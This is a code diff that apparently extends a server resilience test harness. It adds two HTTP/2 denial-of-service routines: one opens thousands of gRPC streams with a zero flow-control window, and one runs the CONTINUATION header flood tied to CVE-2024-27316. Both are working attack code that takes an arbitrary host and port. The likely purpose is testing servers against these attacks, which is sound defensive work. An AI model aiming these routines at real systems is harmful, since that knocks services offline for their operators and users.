@@ -198,6 +198,107 @@ export async function rapidReset(host, port, { connections = 20, maxStreams = 50
   };
 }
 
+const HELLO_FRAME = Buffer.from([0, 0, 0, 0, 5, 0x0a, 0x03, 0x41, 0x64, 0x61]); // HelloRequest { name: "Ada" }
+
+/**
+ * `connections` HTTP/2 connections that advertise a flow-control window of 0 and open `streams`
+ * server-streaming calls each, never reading a byte of the answers: the server can send headers but
+ * no data, so every stream stays open with its replies buffered. Resolves once every request is sent;
+ * `destroy()` drops the sockets.
+ * @returns {Promise<{ streams: number, open(): number, destroy(): void }>}
+ */
+export async function unreadStreams(
+  host,
+  port,
+  { connections = 5, streams = 1000, path = '/helloworld.Greeter/SayHelloStreamReply' } = {},
+) {
+  const sessions = [];
+  let opened = 0;
+  for (let c = 0; c < connections; c++) {
+    const session = http2.connect(`http://${host}:${port}`, { settings: { initialWindowSize: 0 } });
+    session.on('error', () => {});
+    sessions.push(session);
+    await withTimeout(new Promise((resolve) => session.once('connect', resolve)), 10_000, 'an unread-streams connection');
+    for (let i = 0; i < streams; i++) {
+      const stream = session.request({ ':method': 'POST', ':path': path, 'content-type': 'application/grpc', te: 'trailers' });
+      stream.on('error', () => {});
+      stream.pause();
+      stream.end(HELLO_FRAME);
+      opened++;
+    }
+  }
+  return {
+    streams: opened,
+    open: () => sessions.filter((s) => !s.closed && !s.destroyed).length,
+    destroy: () => {
+      for (const session of sessions) session.destroy();
+    },
+  };
+}
+
+/** An HTTP/2 frame on stream `streamId`. */
+function frame(type, flags, streamId, payload) {
+  const header = Buffer.alloc(9);
+  header.writeUIntBE(payload.length, 0, 3);
+  header[3] = type;
+  header[4] = flags;
+  header.writeUInt32BE(streamId, 5);
+  return Buffer.concat([header, payload]);
+}
+
+/** An HPACK literal header field without indexing, no Huffman coding (names and values < 128 bytes). */
+const literal = (name, value) =>
+  Buffer.concat([Buffer.from([0x00, name.length]), Buffer.from(name), Buffer.from([value.length]), Buffer.from(value)]);
+
+/**
+ * The CONTINUATION flood (CVE-2024-27316 and kin): a HEADERS frame without END_HEADERS, then
+ * CONTINUATION frames of fresh headers for ever, up to `maxBytes`. Resolves with how much was
+ * sent before the server closed the connection (or `closed: false` at `timeoutMs`).
+ * @returns {Promise<{ closed: boolean, sentBytes: number, ms: number }>}
+ */
+export function continuationFlood(host, port, { maxBytes = 64 * 1024 * 1024, timeoutMs = 10_000 } = {}) {
+  return new Promise((resolve) => {
+    const started = performance.now();
+    const socket = connect(port, host);
+    let sent = 0;
+    let closed = false;
+    const timer = setTimeout(() => {
+      socket.destroy();
+      resolve({ closed: false, sentBytes: sent, ms: performance.now() - started });
+    }, timeoutMs);
+    socket.on('error', () => {});
+    socket.on('close', () => {
+      closed = true;
+      clearTimeout(timer);
+      resolve({ closed: true, sentBytes: sent, ms: performance.now() - started });
+    });
+    socket.on('connect', () => {
+      socket.write(PREFACE);
+      socket.write(frame(4, 0, 0, Buffer.alloc(0)));
+      // :method POST (static index 3), :scheme http (6), then literal :path and :authority
+      socket.write(
+        frame(
+          1,
+          0,
+          1,
+          Buffer.concat([Buffer.from([0x83, 0x86]), literal(':path', '/helloworld.Greeter/SayHello'), literal(':authority', host)]),
+        ),
+      );
+      const chunk = frame(9, 0, 1, Buffer.concat(Array.from({ length: 100 }, (_, i) => literal(`x-flood-${i % 10}`, 'a'.repeat(50)))));
+      const pump = () => {
+        while (!closed && sent < maxBytes) {
+          sent += chunk.length;
+          if (!socket.write(chunk)) {
+            socket.once('drain', pump);
+            return;
+          }
+        }
+      };
+      pump();
+    });
+  });
+}
+
 /** Waits until the open fds of `pid` are at most `limit` (or `timeoutMs` passes); returns the count. */
 export async function fdsSettle(pid, limit, timeoutMs) {
   try {
